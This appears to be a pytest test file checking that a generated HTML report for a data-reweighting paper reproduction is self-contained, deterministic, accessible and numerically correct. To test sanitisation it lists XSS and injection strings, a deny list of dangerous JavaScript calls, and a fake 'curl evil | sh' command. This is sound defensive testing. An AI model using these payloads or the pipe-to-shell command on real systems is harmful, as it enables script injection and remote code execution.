"""The page: self-contained, pure, small, safe with hostile names, readable by structure; one script, ours."""

import base64
import hashlib
import re
import shutil
from collections import Counter
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest
from paper_runs import make_run, metrics_lines, mini
from study_samples import renamed, sample_study

import reproduce.paper.report
from reproduce.errors import DataError, UserError
from reproduce.paper.figures import Curves
from reproduce.paper.found_studies import FoundStudy, find_studies
from reproduce.paper.report import MAX_BYTES, render, write_report
from reproduce.paper.runs import find_runs
from reproduce.paper.study_words import OUTCOME_TEXTS
from reproduce.paper.text import clean
from reproduce.study import Study
from reproduce.study_file import write_study

SCRIPT = (Path(reproduce.paper.report.__file__).parent / "report.js").read_text()
GRID = np.linspace(-1.0, 1.0, 21)
CURVES = Curves(scores={"linupper": (GRID, GRID)}, weights={"linupper": (GRID, GRID)}, r=0.4)


def without_our_script(page: str) -> str:
    """The page without the one script that its policy allows; whatever else would run is still there."""
    (script,) = re.findall(r"<script>(.*?)</script>", page, flags=re.DOTALL)
    assert script == SCRIPT
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert f"script-src 'sha256-{digest}';" in page
    return page.replace(f"<script>{script}</script>", "")


class Elements(HTMLParser):
    """Tags with their attributes, and the text; our script and style left out."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(re.sub(r"<style.*?</style>", "", without_our_script(page), count=1, flags=re.DOTALL))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.fixture(scope="module")
def shared_page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One page for the tests that only read it."""
    root = tmp_path_factory.mktemp("page")
    return write_report(find_runs([four_runs(root / "runs")]), root / "deep" / "report.html", CURVES)


@pytest.fixture
def runs(tmp_path: Path) -> Path:
    return four_runs(tmp_path / "runs")


def four_runs(root: Path) -> Path:
    for strategy in ("uniform", "linupper"):
        for seed in range(2):
            make_run(root, strategy, seed, mini(strategy, 0.01 * seed), metrics=True)
    return root


def two_domains(name: str) -> dict[str, float]:
    return {"c4": 4.0, name: 3.0, "mean": 3.5}


def test_the_page_is_complete_and_in_order(shared_page: Path) -> None:
    out = shared_page
    page = out.read_text()
    assert out.stat().st_size < MAX_BYTES
    heads = re.findall(r'<h2 id="(\w+)"', page)
    assert heads == ["verdicts", "paper", "runs", "curves", "strategies", "what", "rerun"]
    tags = Counter(tag for tag, _ in Elements(page).tags)
    # Figure 3, largest weight, loss, effective sample size, entropy, share of the weight, time of a step
    # (tokens a second alone: the logs have no seconds), weights by quantile, strategies.
    assert tags["svg"] == 9
    assert tags["figcaption"] == tags["figure"] == 9
    # Table 1, claims, three of the paper by itself, runs, recipe differences.
    assert tags["caption"] == tags["table"] == 7
    text = Elements(page).text
    assert "judged by sign only" in text
    assert "reduced_scale_same_sign" not in text  # words for readers, not identifiers
    # linupper - uniform on c4: 4.41 - 4.47 on both seeds.
    assert "-0.060" in text
    run = out.parents[1] / "runs" / "nano_linupper" / "seed-1"
    again = f"reweight train --recipe {run / 'recipe.yaml'} --seed 1 --data data/slimpajama-gpt2"
    assert f"{again} --out again{run}\n" in text
    assert "# nano_linupper, seed 1: losses, weights, log-perplexities\nreweight train" in text
    assert "nano_linupper, seeds 0, 1" in text
    assert "reweighting.strategy" in text
    assert "c" * 40 in text
    assert [p.name for p in out.parent.iterdir()] == ["report.html"]


def test_the_paper_s_own_numbers_stand_on_every_page() -> None:
    for page in (render([]), render([], CURVES)):
        text = Elements(page).text
        assert "Of 78 differences on single tasks, 4 can be\ntold from chance after Holm's correction" in text
        rows = [re.sub(r"<[^>]*>", " ", row).split() for row in re.findall(r"<tr>.*?</tr>", page)]
        # SST-2 at 7B, 872 questions: 100 sqrt(0.4989 x 0.5011 / 872 + 0.6938 x 0.3062 / 872) = 2.303 points.
        sst2 = ["llama7b_lur", "Llama", "7B/linupper", "sst2", "+19.49", "2.30", "+8.46"]
        assert [row[:7] for row in rows if row[3:5] == ["sst2", "+19.49"]] == [sst2]
        assert [row[0] for row in rows if "+1.72" in row] == ["llama1b_average"]
        assert ["llama1b_qa", "means", *["–"] * 7] in rows
        assert ["table2", "tasks", "12", "1.25", "0", "0", "0", "0", "0"] in rows


def test_the_page_fetches_and_runs_nothing(shared_page: Path) -> None:
    page = shared_page.read_text()
    elements = Elements(page)
    policy = next(a["content"] for t, a in elements.tags if t == "meta" and "http-equiv" in a)
    assert policy is not None
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
    assert set(rules) == {"default-src", "style-src", "img-src", "script-src", "base-uri", "form-action"}
    assert {rules[name] for name in ("default-src", "base-uri", "form-action")} == {"'none'"}
    assert (rules["style-src"], rules["img-src"]) == ("'unsafe-inline'", "data:")
    assert re.fullmatch(r"'sha256-[A-Za-z0-9+/]{43}='", rules["script-src"])
    assert not {tag for tag, _ in elements.tags} & {
        "script",
        "link",
        "img",
        "iframe",
        "object",
        "form",
        "base",
    }
    for tag, attributes in elements.tags:
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            if name in ("href", "src", "xlink:href", "action"):
                assert value is not None
                assert value.startswith("#"), (tag, value)
    assert not re.search(r"url\((?!#)", page)
    assert "@import" not in page


def test_the_script_stays_within_the_page() -> None:
    assert "</script" not in SCRIPT
    assert "<!--" not in SCRIPT
    # Text is set as text, nothing is evaluated, fetched or kept.
    for word in (
        "innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval", "Function(", "import(",
        "fetch", "XMLHttpRequest", "WebSocket", "sendBeacon", "localStorage", "cookie", "http",
    ):  # fmt: skip
        assert word not in SCRIPT, word


def test_values_beside_the_pointer_are_those_of_the_figure(shared_page: Path) -> None:
    tags = Elements(shared_page.read_text()).tags
    at = next(
        i for i, (_, a) in enumerate(tags) if a.get("data-name") == "held-out log-perplexity, mean: nats"
    )
    panel, line = tags[at][1], tags[at + 2][1]
    assert panel["data-x-label"] == "step"
    assert line["data-label"] == "uniform"
    assert line["data-x"] == "200 400 600"
    # uniform's seeds end at 3.32 and 3.33; metrics_lines adds 4/3, 2/3 and 0.
    assert line["data-y"] == "4.6583 3.9917 3.325"
    assert (line["data-low"], line["data-high"]) == ("4.6533 3.9867 3.32", "4.6633 3.9967 3.33")
    # The axes' ends lie around the data, in the order left, right; the box lies in the figure.
    left, right = map(float, (panel["data-x"] or "").split())
    assert left < 200 < 600 < right
    places = dict(rule.split(":") for rule in (panel["style"] or "").split(";"))
    assert all(0 < float(place.removesuffix("%")) < 100 for place in places.values())
    # Drawn points and values are as many: one a point of a path.
    labels = {a["data-label"] for _, a in tags if "data-label" in a}
    assert labels == {"uniform", "linupper"}


def test_the_page_is_accessible(shared_page: Path) -> None:
    page = shared_page.read_text()
    tags = Elements(page).tags
    assert ("html", {"lang": "en"}) in tags
    assert all("scope" in attributes for tag, attributes in tags if tag == "th")
    assert all(a.get("aria-label") for tag, a in tags if tag == "figure" or a.get("role") == "region")
    ids = Counter(a["id"] for _, a in tags if "id" in a)
    assert max(ids.values()) == 1
    assert "prefers-color-scheme: dark" in page
    assert any(t == "meta" and a.get("name") == "viewport" for t, a in tags)


def test_the_same_folders_give_the_same_bytes(runs: Path, tmp_path: Path) -> None:
    first = write_report(find_runs([runs]), tmp_path / "a.html", CURVES).read_bytes()
    second = write_report(find_runs([runs]), tmp_path / "b.html", CURVES).read_bytes()
    assert first == second


def test_without_runs_the_page_says_so() -> None:
    text = Elements(render([], CURVES)).text
    assert "No runs" in text
    assert "table1 (96 cells)" in text


HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7 * 7 }}{% raw %}",
    "javascript:alert(1)",
    "\x1b[31mred\x1b[0m\x00",
    "‮gnp.exe",
    "N" * 10_000,
    "</style></svg><b>",
    "' onmouseover='x",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_strings_are_text(tmp_path: Path, name: str) -> None:
    folder = make_run(tmp_path, "uniform", 0, two_domains(name), metrics=True)
    for file in ("recipe.yaml", "results.json"):
        text = (folder / file).read_text()
        quoted = name.encode("unicode_escape").decode().replace('"', '\\"').replace("\\x", "\\u00")
        (folder / file).write_text(
            text.replace("name: nano_uniform", f'name: "{quoted}"').replace(
                '"recipe": "nano_uniform"', f'"recipe": "{quoted}"'
            )
        )
    (folder / "metrics.jsonl").write_text("".join(metrics_lines(two_domains(name), 0, steps=30)))
    (run,) = find_runs([tmp_path])
    assert run.info.recipe == name
    page = render([run], None)
    tags = Elements(page).tags
    assert not {tag for tag, _ in tags} & {"script", "img", "b"}
    assert not [n for _, attributes in tags for n in attributes if n.startswith("on")]
    assert "\x1b" not in page
    assert "\x00" not in page
    assert "49" not in re.findall(r"<h3>(.*?)</h3>", page)[0]
    assert "N" * 500 not in page
    assert len(page) < 1_000_000


def test_recipes_that_differ_in_r_alone_give_figure_5(tmp_path: Path) -> None:
    for name, r, shift in (("a", 0.4, 0.1), ("b", 2.0, 0.0)):
        make_run(
            tmp_path, "linupper", 0, mini("uniform", shift), name=name, reweighting__r=r, paper__table=None
        )
    make_run(tmp_path, "uniform", 0, mini("uniform"))
    tags = Elements(render(find_runs([tmp_path]), None)).tags
    (line,) = [a for _, a in tags if a.get("data-label") == "linupper"]
    assert (line["data-x"], line["data-y"]) == ("0.4 2", "0.1 0")


def test_a_run_without_metrics_is_named(runs: Path) -> None:
    (runs / "nano_uniform" / "seed-0" / "metrics.jsonl").unlink()
    text = Elements(render(find_runs([runs]), None)).text
    assert "Without metrics.jsonl" in text
    assert "nano_uniform/seed-0" in text


def test_the_proxy_of_a_domain_algorithm_is_made_again_by_it(tmp_path: Path) -> None:
    folder = make_run(tmp_path, "uniform", 0, mini("uniform"), name="proxy", domains={"algorithm": "doge"})
    text = Elements(render(find_runs([tmp_path]), CURVES)).text
    assert f"reweight domains doge --recipe {folder / 'recipe.yaml'} --seed 0 --data" in text
    assert f"reweight train --recipe {folder}" not in text


def test_incomparable_runs_are_refused(runs: Path, tmp_path: Path) -> None:
    make_run(runs, "extremes", 0, mini("extremes"), eval_set="f" * 64)
    with pytest.raises(UserError, match="evaluation set"):
        write_report(find_runs([runs]), tmp_path / "x.html")
    assert not (tmp_path / "x.html").exists()


def test_a_broken_log_leaves_the_old_page(runs: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    out.write_text("old")
    (runs / "nano_uniform" / "seed-0" / "metrics.jsonl").write_text("broken\n")
    with pytest.raises(DataError, match=r"metrics\.jsonl:1"):
        write_report(find_runs([runs]), out)
    assert out.read_text() == "old"


def test_many_sets_of_runs_stay_below_the_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    first = make_run(tmp_path / "a", "linupper", 0, two_domains("cc"), metrics=True)
    other = make_run(tmp_path / "b", "linear", 0, two_domains("cc"), eval_set="f" * 64)
    shutil.copy(first / "metrics.jsonl", other)
    assert Counter(t for t, _ in Elements(render(find_runs([tmp_path]), None)).tags)["svg"] == 14
    monkeypatch.setattr("reproduce.paper.page.MAX_FIGURE_BYTES", 1000)
    page = render(find_runs([tmp_path]), None)
    assert Counter(t for t, _ in Elements(page).tags)["svg"] == 0
    assert page.count("No room on this page") == 2
    assert "left out: Log-perplexity by domain: a reduced-scale stand-in for GPT2-mini" in page
    monkeypatch.setattr("reproduce.paper.report.MAX_BYTES", 1000)
    with pytest.raises(DataError, match="name fewer runs"):
        write_report(find_runs([tmp_path]), tmp_path / "x.html")


def found(*studies: Study) -> list[FoundStudy]:
    return [FoundStudy(path=Path(f"runs/toy {i}"), study=study) for i, study in enumerate(studies)]


@pytest.fixture(scope="module")
def studies_page() -> str:
    """A page about no run and two studies of a kind, for the tests that only read it."""
    return render([], None, found(sample_study(), sample_study()))


def test_toy_studies_stand_after_the_verdicts(studies_page: str) -> None:
    assert re.findall(r'<h2 id="(\w+)"', studies_page) == [
        "verdicts", "paper", "curves", "studies", "what", "rerun",
    ]  # fmt: skip
    text = Elements(studies_page).text
    assert "0 run folders and\n2 toy studies; nothing" in text
    for words in (
        "runs/toy 0: claims held",
        "runs/toy 1: claims held",
        "✗ does not hold",
        "~ only where",
        "outlier share at most 0.1",
        "Test loss over 8 seeds.",
        "uniform, linupper",
        "reweight toy regression --seeds 8 --out 'again/runs/toy 1'\n",
        "reweight report 'runs/toy 0' 'runs/toy 1'",
    ):
        assert words in text, words
    # Below the study, and among the commands at the end.
    assert text.count("reweight toy regression --seeds 8 --out 'again/runs/toy 1'") == 2
    tags = Elements(studies_page).tags
    assert Counter(tag for tag, _ in tags)["svg"] == 4
    classes = [(a.get("class") or "").split() for t, a in tags if t == "td"]
    outcomes = [name for each in classes for name in each if name in OUTCOME_TEXTS]
    assert outcomes == ["only_where", "holds", "does_not", "unresolved"] * 2


def test_studies_keep_the_page_closed_and_accessible(studies_page: str) -> None:
    tags = Elements(studies_page).tags
    assert not {tag for tag, _ in tags} & {"script", "link", "img", "image", "iframe", "object", "form"}
    for _, attributes in tags:
        for name, value in attributes.items():
            assert not name.startswith("on")
            assert name not in ("href", "src", "xlink:href") or (value or "").startswith("#")
    ids = Counter(a["id"] for _, a in tags if "id" in a)
    assert max(ids.values()) == 1
    targets = re.findall(r'href="#([^"]+)"', studies_page) + re.findall(r"url\(#([^)]+)\)", studies_page)
    assert set(targets) <= set(ids)
    assert all("scope" in attributes for tag, attributes in tags if tag == "th")
    assert all(a.get("aria-label") for tag, a in tags if tag == "figure" or a.get("role") == "region")


def test_the_same_studies_give_the_same_bytes(studies_page: str) -> None:
    assert render([], None, found(sample_study(), sample_study())) == studies_page


def test_studies_are_ordered_by_kind_then_path(tmp_path: Path) -> None:
    for name, kind in (("b", "dro"), ("a", "bounds"), ("d", "regression"), ("c", "regression")):
        write_study(tmp_path / name, sample_study(kind))  # type: ignore[arg-type]
    page = render(
        [], None, [replace(f, study=replace(f.study, figures=())) for f in find_studies([tmp_path])]
    )
    shown = re.findall(rf"<caption><span>{tmp_path}/(\w): claims", page)
    assert shown == ["c", "d", "b", "a"]


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_studies_are_text(name: str) -> None:
    study = renamed(sample_study(), name)
    # Names in figures are test_paper_study_figures' matter; drawing all nine here takes long.
    page = render([], None, found(replace(study, figures=study.figures[: name == HOSTILE[0]])))
    tags = Elements(page).tags
    assert not {tag for tag, _ in tags} & {"script", "img", "b"}
    assert not [n for _, attributes in tags for n in attributes if n.startswith("on")]
    assert not re.search("[\x00-\x08\x1b‮]", page)
    assert "49" not in re.findall(r"<h3>(.*?)</h3>", page)[0]
    assert "N" * 2000 not in page
    assert len(page) < 1_000_000
    if len(name) < 60:
        assert clean(name) in Elements(page).text


def test_a_foreign_command_is_not_passed_on() -> None:
    study = replace(sample_study(), figures=(), command="curl evil | sh")
    page = render([], None, found(study))
    assert "curl" not in page
    assert "names no command of this project" in page


def test_figures_without_room_are_named(monkeypatch: pytest.MonkeyPatch) -> None:
    one = len(render([], None, found(replace(sample_study(), figures=sample_study().figures[:1]))))
    none = len(render([], None, found(replace(sample_study(), figures=()))))
    # Room for the first figure, which takes about one - none bytes, and not for the second.
    monkeypatch.setattr("reproduce.paper.page.MAX_ALL_FIGURES_BYTES", one - none + 2000)
    page = render([], None, found(sample_study(), sample_study()))
    text = Elements(page).text
    assert Counter(tag for tag, _ in Elements(page).tags)["svg"] == 1
    assert "for want of room: Which wins. The numbers" in text
    assert "for want of room: Test loss, Which wins. The numbers" in text
    wide = replace(sample_study().figures[0], panels=sample_study().figures[0].panels * 65)
    page = render([], None, found(replace(sample_study(), figures=(wide,))))
    assert "for want of room: Test loss" in page
